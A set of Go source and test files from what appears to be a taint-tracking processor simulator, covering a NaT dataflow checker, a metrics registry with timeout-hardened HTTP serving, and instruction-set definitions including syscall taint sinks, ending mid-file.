		case isa.OpMovToBr, isa.OpMovToUnat, isa.OpMovToCcv:
			out.nat.Clear(ins.Src1)
		}
	}

	// UNAT effects.
	if ins.Qp == 0 {
		switch ins.Op {
		case isa.OpStSpill:
			out.unat |= 1 << uint(ins.Imm&63)
		case isa.OpMovToUnat:
			out.unat = ^uint64(0)
		}
	}

	if ins.Op.HasDest() && ins.Dest != isa.RegZero {
		out.init.Set(ins.Dest)
		var maybe bool
		switch natOf(ins) {
		case natClean:
			maybe = false
		case natMaybe:
			maybe = true
		case natProp1:
			maybe = in.nat.Has(ins.Src1)
		case natProp2:
			maybe = in.nat.Has(ins.Src1) || in.nat.Has(ins.Src2)
		}
		switch {
		case ins.Qp == 0:
			// Unconditional write.
		case c.cleanWrite[pc]:
			// Guarded clean: not-taken means it was already clean.
			maybe = false
		default:
			// Predicated write: the old value may survive.
			maybe = maybe || in.nat.Has(ins.Dest)
		}
		if maybe {
			out.nat.Set(ins.Dest)
		} else {
			out.nat.Clear(ins.Dest)
		}
	}
	return out
}

// applyEdge transforms an out-state across a control-flow edge.
func applyEdge(e Edge, out state) state {
	s := out
	switch e.Kind {
	case EdgeRet:
		// The callee may leave NaT in any register it writes; only r0
		// and the kept mask register are contractually clean. Written-
		// ness is monotone, but the callee's UNAT is not trusted.
		s.nat = allRegs
		s.nat.Clear(isa.RegZero)
		s.nat.Clear(isa.RegKeep)
		s.unat = 0
	case EdgeChk:
		if e.Clr >= 0 {
			s.nat.Clear(uint8(e.Clr))
		}
	}
	return s
}

// solve runs the worklist to fixpoint, filling c.in with the state at
// each instruction and c.reach with reachability.
func (c *checker) solve() {
	n := len(c.prog.Text)
	c.in = make([]state, n)
	c.reach = c.g.Reachable()

	var work []int
	push := func(i int) { work = append(work, i) }

	for _, r := range c.g.Roots {
		if r < 0 || r >= n {
			continue
		}
		var seed state
		if r == c.prog.Entry {
			seed = entryState()
		} else {
			seed = rootState()
		}
		merged := meet(c.in[r], seed)
		if merged != c.in[r] {
			c.in[r] = merged
			push(r)
		}
	}

	for len(work) > 0 {
		pc := work[len(work)-1]
		work = work[:len(work)-1]
		out := c.transfer(pc, c.in[pc])
		for _, e := range c.g.Succ[pc] {
			s := applyEdge(e, out)
			merged := meet(c.in[e.To], s)
			if merged != c.in[e.To] {
				c.in[e.To] = merged
				push(e.To)
			}
		}
	}
}
