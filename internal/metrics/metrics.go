// Package metrics is a small stdlib-only metrics registry for the
// simulator's observability surface: counters, gauges, gauge functions
// and fixed-bucket histograms, exposed in Prometheus text exposition
// format and bridged to expvar. The paper's evaluation hinges on exactly
// these aggregates — TLB and cache hit rates (§6.4), tag-operation
// volume, per-syscall check latency — so the registry gives them one
// scrapeable home instead of ad-hoc struct fields.
//
// Metric names follow Prometheus conventions; a name may carry a label
// set inline, e.g. `shift_slice_cycles_total{tid="2"}`. Instruments are
// get-or-create: asking for the same name twice returns the same
// instrument, so wiring code never has to thread pointers around.
package metrics

import (
	"expvar"
	"fmt"
	"io"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is a monotonically increasing uint64.
type Counter struct{ v atomic.Uint64 }

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is a settable uint64.
type Gauge struct{ v atomic.Uint64 }

// Set stores n.
func (g *Gauge) Set(n uint64) { g.v.Store(n) }

// Value returns the current value.
func (g *Gauge) Value() uint64 { return g.v.Load() }

// Histogram is a fixed-bucket cumulative histogram of uint64 samples
// (cycle counts, byte lengths). Bounds are inclusive upper edges; an
// implicit +Inf bucket catches the rest.
type Histogram struct {
	bounds []uint64
	counts []atomic.Uint64 // len(bounds)+1, last is +Inf
	sum    atomic.Uint64
	n      atomic.Uint64
}

// Observe records one sample.
func (h *Histogram) Observe(v uint64) {
	i := sort.Search(len(h.bounds), func(i int) bool { return h.bounds[i] >= v })
	h.counts[i].Add(1)
	h.sum.Add(v)
	h.n.Add(1)
}

// Count returns the number of samples observed.
func (h *Histogram) Count() uint64 { return h.n.Load() }

// Sum returns the sum of all observed samples.
func (h *Histogram) Sum() uint64 { return h.sum.Load() }

// Registry holds named instruments. The zero value is not usable; call
// NewRegistry. A nil *Registry is a valid no-op: the getters return
// instruments that work but are not exported anywhere, so call sites
// need no nil checks of their own beyond fetching instruments up front.
type Registry struct {
	mu    sync.Mutex
	cs    map[string]*Counter
	gs    map[string]*Gauge
	fns   map[string]func() uint64
	hs    map[string]*Histogram
	order []string // names in first-registration order, for the expvar map
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		cs:  make(map[string]*Counter),
		gs:  make(map[string]*Gauge),
		fns: make(map[string]func() uint64),
		hs:  make(map[string]*Histogram),
	}
}

// Counter returns the counter registered under name, creating it on
// first use.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return new(Counter)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c := r.cs[name]
	if c == nil {
		c = new(Counter)
		r.cs[name] = c
		r.order = append(r.order, name)
	}
	return c
}

// Gauge returns the gauge registered under name, creating it on first
// use.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return new(Gauge)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g := r.gs[name]
	if g == nil {
		g = new(Gauge)
		r.gs[name] = g
		r.order = append(r.order, name)
	}
	return g
}

// GaugeFunc registers fn as the source for name; exposition calls it at
// scrape time. Registering the same name again replaces the function.
func (r *Registry) GaugeFunc(name string, fn func() uint64) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, seen := r.fns[name]; !seen {
		r.order = append(r.order, name)
	}
	r.fns[name] = fn
}

// Histogram returns the histogram registered under name, creating it
// with the given bucket bounds on first use (later calls ignore bounds).
func (r *Registry) Histogram(name string, bounds []uint64) *Histogram {
	if r == nil {
		h := &Histogram{bounds: bounds}
		h.counts = make([]atomic.Uint64, len(bounds)+1)
		return h
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h := r.hs[name]
	if h == nil {
		sorted := append([]uint64(nil), bounds...)
		sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
		h = &Histogram{bounds: sorted}
		h.counts = make([]atomic.Uint64, len(sorted)+1)
		r.hs[name] = h
		r.order = append(r.order, name)
	}
	return h
}

// splitLabels separates `base{labels}` into base and the inner label
// text ("" when the name is unlabeled).
func splitLabels(name string) (base, labels string) {
	if i := strings.IndexByte(name, '{'); i >= 0 && strings.HasSuffix(name, "}") {
		return name[:i], name[i+1 : len(name)-1]
	}
	return name, ""
}

// withLabel re-attaches a label set plus one extra pair to a base name.
func withLabel(base, labels, extra string) string {
	if labels == "" {
		return base + "{" + extra + "}"
	}
	return base + "{" + labels + "," + extra + "}"
}

// WritePrometheus writes every instrument in Prometheus text exposition
// format (v0.0.4), sorted by name so output is stable. Instruments that
// share a base name (differing only in labels) share one TYPE line.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	type row struct {
		name string
		kind string // "counter", "gauge", "histogram"
	}
	r.mu.Lock()
	rows := make([]row, 0, len(r.order))
	for _, name := range r.order {
		switch {
		case r.cs[name] != nil:
			rows = append(rows, row{name, "counter"})
		case r.gs[name] != nil || r.fns[name] != nil:
			rows = append(rows, row{name, "gauge"})
		case r.hs[name] != nil:
			rows = append(rows, row{name, "histogram"})
		}
	}
	r.mu.Unlock()
	sort.Slice(rows, func(i, j int) bool { return rows[i].name < rows[j].name })

	typed := make(map[string]bool)
	for _, rw := range rows {
		base, labels := splitLabels(rw.name)
		if !typed[base] {
			typed[base] = true
			if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", base, rw.kind); err != nil {
				return err
			}
		}
		var err error
		switch rw.kind {
		case "counter", "gauge":
			var v uint64
			r.mu.Lock()
			switch {
			case r.cs[rw.name] != nil:
				v = r.cs[rw.name].Value()
			case r.gs[rw.name] != nil:
				v = r.gs[rw.name].Value()
			default:
				fn := r.fns[rw.name]
				r.mu.Unlock()
				v = fn() // outside the lock: fn may read other instruments
				r.mu.Lock()
			}
			r.mu.Unlock()
			_, err = fmt.Fprintf(w, "%s %d\n", rw.name, v)
		case "histogram":
			r.mu.Lock()
			h := r.hs[rw.name]
			r.mu.Unlock()
			cum := uint64(0)
			for i, b := range h.bounds {
				cum += h.counts[i].Load()
				if _, err = fmt.Fprintf(w, "%s %d\n", withLabel(base+"_bucket", labels, fmt.Sprintf("le=%q", fmt.Sprint(b))), cum); err != nil {
					return err
				}
			}
			cum += h.counts[len(h.bounds)].Load()
			if _, err = fmt.Fprintf(w, "%s %d\n", withLabel(base+"_bucket", labels, `le="+Inf"`), cum); err != nil {
				return err
			}
			if _, err = fmt.Fprintf(w, "%s %d\n", attachLabels(base+"_sum", labels), h.Sum()); err != nil {
				return err
			}
			_, err = fmt.Fprintf(w, "%s %d\n", attachLabels(base+"_count", labels), h.Count())
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// attachLabels re-attaches a (possibly empty) label set to a name.
func attachLabels(base, labels string) string {
	if labels == "" {
		return base
	}
	return base + "{" + labels + "}"
}

// Handler returns an http.Handler serving the Prometheus exposition.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WritePrometheus(w)
	})
}

// Default timeouts for NewServer. A metrics exposition is a small,
// fast response; anything still reading or writing after these bounds
// is a stuck or malicious client holding a connection (and eventually a
// file descriptor) hostage.
const (
	DefaultReadHeaderTimeout = 5 * time.Second
	DefaultReadTimeout       = 10 * time.Second
	DefaultWriteTimeout      = 30 * time.Second
	DefaultIdleTimeout       = 60 * time.Second
)

// NewServer wraps a handler in an http.Server with every slow-client
// timeout set. The zero-value http.Server has none, so one client that
// connects and never finishes its request headers pins a goroutine and
// a connection forever — with enough of them, the process runs out of
// descriptors. Both the metrics endpoint and cmd/shiftd build their
// front ends through this constructor.
func NewServer(h http.Handler) *http.Server {
	return &http.Server{
		Handler:           h,
		ReadHeaderTimeout: DefaultReadHeaderTimeout,
		ReadTimeout:       DefaultReadTimeout,
		WriteTimeout:      DefaultWriteTimeout,
		IdleTimeout:       DefaultIdleTimeout,
	}
}

// Serve starts an HTTP listener on addr (e.g. ":9090", "127.0.0.1:0")
// with the exposition at /metrics and at /. It returns the bound
// listener so callers can learn the port and close it; the serve loop
// runs in a background goroutine until the listener closes. The server
// carries the NewServer slow-client timeouts.
func (r *Registry) Serve(addr string) (net.Listener, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	mux := http.NewServeMux()
	mux.Handle("/metrics", r.Handler())
	mux.Handle("/", r.Handler())
	srv := NewServer(mux)
	go func() { _ = srv.Serve(ln) }()
	return ln, nil
}

// expvarOnce guards the process-global expvar name: Publish panics on
// duplicates, and tests build many registries.
var expvarOnce sync.Once

// PublishExpvar exposes the registry under the expvar name
// "shift_metrics" as a map of instrument name to value (histograms
// appear as their sample count). Only the first registry published this
// way wins; the call is a no-op for later ones.
func (r *Registry) PublishExpvar() {
	if r == nil {
		return
	}
	expvarOnce.Do(func() {
		expvar.Publish("shift_metrics", expvar.Func(func() any {
			out := make(map[string]uint64)
			r.mu.Lock()
			names := append([]string(nil), r.order...)
			r.mu.Unlock()
			for _, name := range names {
				r.mu.Lock()
				c, g, fn, h := r.cs[name], r.gs[name], r.fns[name], r.hs[name]
				r.mu.Unlock()
				switch {
				case c != nil:
					out[name] = c.Value()
				case g != nil:
					out[name] = g.Value()
				case fn != nil:
					out[name] = fn()
				case h != nil:
					out[name] = h.Count()
				}
			}
			return out
		}))
	})
}
