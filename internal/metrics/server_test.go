package metrics

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"testing"
	"time"
)

// Every slow-client timeout must be set: a zero value on any of them
// lets one stuck client pin a connection (and its goroutine) forever.
func TestNewServerSetsAllTimeouts(t *testing.T) {
	srv := NewServer(http.NotFoundHandler())
	if srv.ReadHeaderTimeout <= 0 {
		t.Error("ReadHeaderTimeout unset")
	}
	if srv.ReadTimeout <= 0 {
		t.Error("ReadTimeout unset")
	}
	if srv.WriteTimeout <= 0 {
		t.Error("WriteTimeout unset")
	}
	if srv.IdleTimeout <= 0 {
		t.Error("IdleTimeout unset")
	}
}

// A client that connects, dribbles half a request line and then stalls
// must be disconnected once the read timeouts expire — before the fix,
// the default http.Server waited on it indefinitely.
func TestSlowClientIsDisconnected(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	reg := NewRegistry()
	reg.Counter("x_total").Inc()
	srv := NewServer(reg.Handler())
	srv.ReadHeaderTimeout = 100 * time.Millisecond
	srv.ReadTimeout = 100 * time.Millisecond
	go func() { _ = srv.Serve(ln) }()
	defer srv.Close()

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, "GET /metr"); err != nil {
		t.Fatal(err)
	}
	// The server must close the connection on its own; the deadline here
	// is only a backstop so a regression fails instead of hanging.
	_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	start := time.Now()
	_, err = io.ReadAll(conn)
	if err != nil {
		t.Fatalf("server did not close the stalled connection: %v", err)
	}
	if d := time.Since(start); d > 3*time.Second {
		t.Fatalf("disconnect took %v, want ~ReadTimeout", d)
	}

	// A well-behaved client must still be served.
	resp, err := http.Get(fmt.Sprintf("http://%s/", ln.Addr()))
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if want := "# TYPE x_total counter\nx_total 1\n"; string(body) != want {
		t.Fatalf("exposition = %q, want %q", body, want)
	}
}
