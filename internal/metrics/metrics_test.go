package metrics

import (
	"expvar"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
)

func TestGetOrCreateIdentity(t *testing.T) {
	r := NewRegistry()
	if r.Counter("a") != r.Counter("a") {
		t.Error("Counter returned different instruments for one name")
	}
	if r.Gauge("g") != r.Gauge("g") {
		t.Error("Gauge returned different instruments for one name")
	}
	if r.Histogram("h", []uint64{1, 2}) != r.Histogram("h", nil) {
		t.Error("Histogram returned different instruments for one name")
	}
}

func TestNilRegistryIsInert(t *testing.T) {
	var r *Registry
	r.Counter("x").Add(5)
	r.Gauge("y").Set(7)
	r.Histogram("z", []uint64{10}).Observe(3)
	r.GaugeFunc("f", func() uint64 { return 1 })
	if err := r.WritePrometheus(io.Discard); err != nil {
		t.Fatal(err)
	}
	r.PublishExpvar()
}

func TestPrometheusExposition(t *testing.T) {
	r := NewRegistry()
	r.Counter("shift_tag_writes_total").Add(3)
	r.Gauge("shift_threads").Set(2)
	r.GaugeFunc("shift_tlb_hits", func() uint64 { return 41 })
	r.Counter(`shift_slice_cycles_total{tid="0"}`).Add(100)
	r.Counter(`shift_slice_cycles_total{tid="1"}`).Add(50)
	h := r.Histogram(`lat{sys="read"}`, []uint64{10, 100})
	h.Observe(5)
	h.Observe(50)
	h.Observe(5000)

	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{
		"# TYPE shift_tag_writes_total counter\n",
		"shift_tag_writes_total 3\n",
		"# TYPE shift_threads gauge\n",
		"shift_threads 2\n",
		"shift_tlb_hits 41\n",
		`shift_slice_cycles_total{tid="0"} 100` + "\n",
		`shift_slice_cycles_total{tid="1"} 50` + "\n",
		"# TYPE lat histogram\n",
		`lat_bucket{sys="read",le="10"} 1` + "\n",
		`lat_bucket{sys="read",le="100"} 2` + "\n",
		`lat_bucket{sys="read",le="+Inf"} 3` + "\n",
		`lat_sum{sys="read"} 5055` + "\n",
		`lat_count{sys="read"} 3` + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q:\n%s", want, out)
		}
	}
	// One TYPE line per base name even with several label sets.
	if n := strings.Count(out, "# TYPE shift_slice_cycles_total "); n != 1 {
		t.Errorf("%d TYPE lines for the labeled counter family, want 1", n)
	}
	// Output is sorted, hence byte-stable across calls.
	var again strings.Builder
	if err := r.WritePrometheus(&again); err != nil {
		t.Fatal(err)
	}
	if again.String() != out {
		t.Error("exposition not deterministic")
	}
}

func TestHistogramBucketEdges(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("edge", []uint64{10})
	h.Observe(10) // inclusive upper edge
	h.Observe(11)
	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(sb.String(), `edge_bucket{le="10"} 1`+"\n") {
		t.Errorf("le=10 bucket should include the sample equal to the edge:\n%s", sb.String())
	}
}

func TestHTTPHandler(t *testing.T) {
	r := NewRegistry()
	r.Counter("hits_total").Inc()
	ln, err := r.Serve("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	resp, err := http.Get(fmt.Sprintf("http://%s/metrics", ln.Addr()))
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != 200 || !strings.Contains(string(body), "hits_total 1") {
		t.Errorf("GET /metrics = %d %q", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.Contains(ct, "text/plain") {
		t.Errorf("content type %q", ct)
	}
}

func TestConcurrentInstruments(t *testing.T) {
	r := NewRegistry()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				r.Counter("c").Inc()
				r.Histogram("h", []uint64{100}).Observe(uint64(j))
			}
		}()
	}
	wg.Wait()
	if got := r.Counter("c").Value(); got != 8000 {
		t.Errorf("counter = %d, want 8000", got)
	}
	if got := r.Histogram("h", nil).Count(); got != 8000 {
		t.Errorf("histogram count = %d, want 8000", got)
	}
}

func TestPublishExpvar(t *testing.T) {
	r := NewRegistry()
	r.Counter("exp_total").Add(9)
	r.PublishExpvar()
	r.PublishExpvar() // second call must not panic (expvar rejects dupes)
	NewRegistry().PublishExpvar()
	v := expvar.Get("shift_metrics")
	if v == nil {
		t.Fatal("shift_metrics not published")
	}
	if s := v.String(); !strings.Contains(s, `"exp_total":9`) {
		t.Errorf("expvar value %s", s)
	}
}
