package isa

import (
	"fmt"
	"sort"
	"strings"
)

// Program is a linked or linkable unit: an instruction sequence plus the
// symbol tables needed to resolve branch targets and data addresses.
type Program struct {
	Text []Instruction

	// Symbols maps a code label to its instruction index.
	Symbols map[string]int

	// DataSymbols maps a data label to its absolute virtual address.
	DataSymbols map[string]uint64

	// Data is the initial data image, loaded at DataBase.
	Data     []byte
	DataBase uint64

	// Entry is the instruction index where execution starts.
	Entry int
}

// Link resolves every symbolic branch target to an instruction index.
// Instructions that already carry a resolved Target (Label == "") are left
// alone. Link is idempotent.
func (p *Program) Link() error {
	for idx := range p.Text {
		ins := &p.Text[idx]
		if ins.Label == "" {
			continue
		}
		t, ok := p.Symbols[ins.Label]
		if !ok {
			return fmt.Errorf("isa: link: undefined label %q at instruction %d (%s)", ins.Label, idx, ins.String())
		}
		ins.Target = t
	}
	return nil
}

// Validate checks every instruction and that branch targets are in range.
func (p *Program) Validate() error {
	for idx := range p.Text {
		ins := &p.Text[idx]
		if err := ins.Validate(); err != nil {
			return fmt.Errorf("instruction %d: %w", idx, err)
		}
		if ins.Op.IsBranch() && ins.Op != OpBrRet && ins.Op != OpBrInd && ins.Label == "" {
			if ins.Target < 0 || ins.Target >= len(p.Text) {
				return fmt.Errorf("instruction %d (%s): branch target %d out of range", idx, ins.Op.Name(), ins.Target)
			}
		}
	}
	if p.Entry < 0 || (len(p.Text) > 0 && p.Entry >= len(p.Text)) {
		return fmt.Errorf("entry point %d out of range", p.Entry)
	}
	return nil
}

// SymbolAt returns the labels attached to instruction index idx, sorted.
func (p *Program) SymbolAt(idx int) []string {
	var out []string
	for name, at := range p.Symbols {
		if at == idx {
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out
}

// Disassemble renders the whole program in assembler syntax.
func (p *Program) Disassemble() string {
	var b strings.Builder
	for idx := range p.Text {
		for _, sym := range p.SymbolAt(idx) {
			fmt.Fprintf(&b, "%s:\n", sym)
		}
		fmt.Fprintf(&b, "\t%s\n", p.Text[idx].String())
	}
	return b.String()
}

// CountByClass returns the static instruction count per cost class,
// the basis for the paper's Table 3 (code-size expansion).
func (p *Program) CountByClass() [NumCostClasses]int {
	var counts [NumCostClasses]int
	for idx := range p.Text {
		counts[p.Text[idx].Class]++
	}
	return counts
}
