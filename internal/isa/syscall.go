package isa

// System call numbers. Arguments are passed in r32, r33, ... and the
// result is returned in r8, matching the compiled calling convention so
// that a runtime-library stub is a straight syscall + return.
//
// The OS model behind these calls lives in internal/machine (mechanism)
// and internal/policy (taint sources and sinks). Splitting the channels —
// file input, network input, SQL, shell, HTML output — mirrors the paper's
// configurable taint sources (§3.3.1) and high-level sinks (Table 1).
const (
	SysExit      = 1  // exit(status)
	SysRead      = 2  // read(fd, buf, n) -> n          file input
	SysWrite     = 3  // write(fd, buf, n) -> n         file/stdout output
	SysOpen      = 4  // open(path, flags) -> fd        H1/H2 sink
	SysRecv      = 5  // recv(buf, n) -> n              network input
	SysSend      = 6  // send(buf, n) -> n              network output
	SysSqlExec   = 7  // sql_exec(query) -> status      H3 sink
	SysSystem    = 8  // system(cmd) -> status          H4 sink
	SysHTMLWrite = 9  // html_write(buf, n) -> n        H5 sink
	SysSbrk      = 10 // sbrk(n) -> old break           heap allocation
	SysTaint     = 11 // taint(buf, n)                  mark region tainted
	SysUntaint   = 12 // untaint(buf, n)                mark region clean
	SysIsTainted = 13 // is_tainted(buf, n) -> 0/1      tag-space query
	SysGetArg    = 14 // getarg(i, buf, cap) -> len     program argument
	SysPutc      = 15 // putc(ch)                       debug character out

	// SysUserAlert is raised by instrumentation-generated user-level
	// violation handlers (§3.3.3: chk.s guards before critical uses let
	// the program observe a taint violation without taking a hardware
	// fault). Never called by user code directly.
	SysUserAlert = 16

	// Threading (the paper's §4.4 future work, implemented here).
	SysSpawn = 17 // spawn(fn_name, arg) -> tid      start a thread at fn
	SysJoin  = 18 // join(tid) -> 0/-1               wait for a thread
	SysYield = 19 // yield()                          end the time slice
)

// SyscallArgCount returns how many scalar arguments (r32..) the syscall
// consumes — the registers the §3.3.3 user-level guards must check.
func SyscallArgCount(n int64) int {
	switch n {
	case SysExit, SysSqlExec, SysSystem, SysPutc:
		return 1
	case SysRecv, SysSend, SysHTMLWrite, SysTaint, SysUntaint, SysIsTainted, SysOpen:
		return 2
	case SysRead, SysWrite, SysGetArg:
		return 3
	case SysSbrk, SysJoin:
		return 1
	case SysSpawn:
		return 2
	}
	return 0
}

// SyscallName returns a human-readable name for a syscall number.
func SyscallName(n int64) string {
	switch n {
	case SysExit:
		return "exit"
	case SysRead:
		return "read"
	case SysWrite:
		return "write"
	case SysOpen:
		return "open"
	case SysRecv:
		return "recv"
	case SysSend:
		return "send"
	case SysSqlExec:
		return "sql_exec"
	case SysSystem:
		return "system"
	case SysHTMLWrite:
		return "html_write"
	case SysSbrk:
		return "sbrk"
	case SysTaint:
		return "taint"
	case SysUntaint:
		return "untaint"
	case SysIsTainted:
		return "is_tainted"
	case SysGetArg:
		return "getarg"
	case SysPutc:
		return "putc"
	case SysUserAlert:
		return "user_alert"
	case SysSpawn:
		return "spawn"
	case SysJoin:
		return "join"
	case SysYield:
		return "yield"
	}
	return "unknown"
}
