package isa

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func TestCondEval(t *testing.T) {
	cases := []struct {
		c    Cond
		a, b int64
		want bool
	}{
		{CondEQ, 3, 3, true},
		{CondEQ, 3, 4, false},
		{CondNE, 3, 4, true},
		{CondLT, -1, 0, true},
		{CondLE, 5, 5, true},
		{CondGT, 6, 5, true},
		{CondGE, 5, 5, true},
		{CondLTU, -1, 0, false}, // -1 is max uint64
		{CondLTU, 1, 2, true},
		{CondGEU, -1, 0, true},
	}
	for _, c := range cases {
		if got := c.c.Eval(c.a, c.b); got != c.want {
			t.Errorf("%s.Eval(%d, %d) = %v, want %v", c.c, c.a, c.b, got, c.want)
		}
	}
}

func TestCondNegateIsComplement(t *testing.T) {
	f := func(ci uint8, a, b int64) bool {
		c := Cond(ci % 8)
		return c.Negate().Eval(a, b) == !c.Eval(a, b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestCondNegateInvolution(t *testing.T) {
	for c := CondEQ; c <= CondGEU; c++ {
		if c.Negate().Negate() != c {
			t.Errorf("negate(negate(%s)) != %s", c, c)
		}
	}
}

func TestCondStringRoundTrip(t *testing.T) {
	for c := CondEQ; c <= CondGEU; c++ {
		got, ok := CondFromString(c.String())
		if !ok || got != c {
			t.Errorf("CondFromString(%q) = %v, %v", c.String(), got, ok)
		}
	}
	if _, ok := CondFromString("bogus"); ok {
		t.Error("CondFromString accepted bogus relation")
	}
}

func TestOpcodeClassification(t *testing.T) {
	if !OpLd.IsLoad() || !OpLdS.IsLoad() || !OpLdFill.IsLoad() {
		t.Error("load forms not classified as loads")
	}
	if !OpSt.IsStore() || !OpStSpill.IsStore() {
		t.Error("store forms not classified as stores")
	}
	if OpAdd.IsMem() || !OpLd.IsMem() || !OpStSpill.IsMem() {
		t.Error("IsMem wrong")
	}
	if !OpBr.IsBranch() || !OpChkS.IsBranch() || OpMov.IsBranch() {
		t.Error("IsBranch wrong")
	}
	if !OpCmp.IsCompare() || !OpCmpiNa.IsCompare() || OpTnat.IsCompare() {
		t.Error("IsCompare wrong")
	}
	if OpInvalid.Valid() || NumOpcodes.Valid() || !OpNop.Valid() {
		t.Error("Valid wrong")
	}
}

func TestInstructionValidate(t *testing.T) {
	good := Instruction{Op: OpAdd, Dest: 1, Src1: 2, Src2: 3}
	if err := good.Validate(); err != nil {
		t.Errorf("valid add rejected: %v", err)
	}
	bad := []Instruction{
		{Op: OpInvalid},
		{Op: OpAdd, Dest: 0, Src1: 1, Src2: 2},              // r0 read-only
		{Op: OpLd, Dest: 1, Src1: 2, Size: 3},               // bad size
		{Op: OpStSpill, Src1: 1, Src2: 2, Size: 4},          // spill must be 8
		{Op: OpStSpill, Src1: 1, Src2: 2, Size: 8, Imm: 64}, // UNAT bit range
	}
	for i, ins := range bad {
		if err := ins.Validate(); err == nil {
			t.Errorf("case %d: invalid instruction accepted: %s", i, ins.String())
		}
	}
}

func TestProgramLink(t *testing.T) {
	p := &Program{
		Text: []Instruction{
			{Op: OpBr, Label: "end"},
			{Op: OpNop},
			{Op: OpNop, Sym: "end"},
		},
		Symbols: map[string]int{"end": 2},
	}
	if err := p.Link(); err != nil {
		t.Fatal(err)
	}
	if p.Text[0].Target != 2 {
		t.Errorf("link target = %d, want 2", p.Text[0].Target)
	}
	p.Text = append(p.Text, Instruction{Op: OpBr, Label: "missing"})
	if err := p.Link(); err == nil {
		t.Error("link accepted undefined label")
	}
}

func TestProgramValidateBranchRange(t *testing.T) {
	p := &Program{Text: []Instruction{{Op: OpBr, Target: 99}}}
	if err := p.Validate(); err == nil {
		t.Error("out-of-range branch target accepted")
	}
}

func TestCountByClass(t *testing.T) {
	p := &Program{Text: []Instruction{
		{Op: OpAdd, Dest: 1, Src1: 1, Src2: 1},
		{Op: OpAdd, Dest: 1, Src1: 1, Src2: 1, Class: ClassLoadCompute},
		{Op: OpLd, Dest: 1, Src1: 1, Size: 8, Class: ClassLoadTagMem},
	}}
	counts := p.CountByClass()
	if counts[ClassOrig] != 1 || counts[ClassLoadCompute] != 1 || counts[ClassLoadTagMem] != 1 {
		t.Errorf("CountByClass = %v", counts)
	}
}

func TestDisassembleMentionsSymbols(t *testing.T) {
	p := &Program{
		Text:    []Instruction{{Op: OpNop}, {Op: OpBrRet, B: 0}},
		Symbols: map[string]int{"main": 0},
	}
	dis := p.Disassemble()
	if !strings.Contains(dis, "main:") || !strings.Contains(dis, "br.ret b0") {
		t.Errorf("disassembly missing pieces:\n%s", dis)
	}
}

// TestStringStable checks that disassembly is deterministic and non-empty
// for a sample of random (structurally valid) instructions.
func TestStringStable(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 500; i++ {
		ins := RandomInstruction(rng)
		s1, s2 := ins.String(), ins.String()
		if s1 == "" || s1 != s2 {
			t.Fatalf("unstable or empty disassembly: %q vs %q", s1, s2)
		}
	}
}
