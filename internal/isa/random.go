package isa

import "math/rand"

// RandomInstruction generates a structurally valid random instruction.
// It exists for property tests (assembler round-trips, machine fuzzing);
// production code never calls it.
func RandomInstruction(rng *rand.Rand) Instruction {
	gr := func() uint8 { return uint8(1 + rng.Intn(NumGR-1)) }
	pr := func() uint8 { return uint8(rng.Intn(NumPR)) }
	br := func() uint8 { return uint8(rng.Intn(NumBR)) }
	size := func() uint8 { return []uint8{1, 2, 4, 8}[rng.Intn(4)] }
	cond := func() Cond { return Cond(rng.Intn(int(NumConds))) }
	imm := func() int64 { return rng.Int63n(1<<20) - 1<<19 }

	ops := []Opcode{
		OpAdd, OpSub, OpAnd, OpAndcm, OpOr, OpXor, OpShl, OpShr, OpSar,
		OpMul, OpDiv, OpRem, OpAddi, OpAndi, OpOri, OpXori, OpShli,
		OpShri, OpSari, OpMov, OpMovl, OpCmp, OpCmpi, OpCmpNa, OpCmpiNa,
		OpTnat, OpLd, OpLdS, OpLdFill, OpSt, OpStSpill, OpChkS, OpBr,
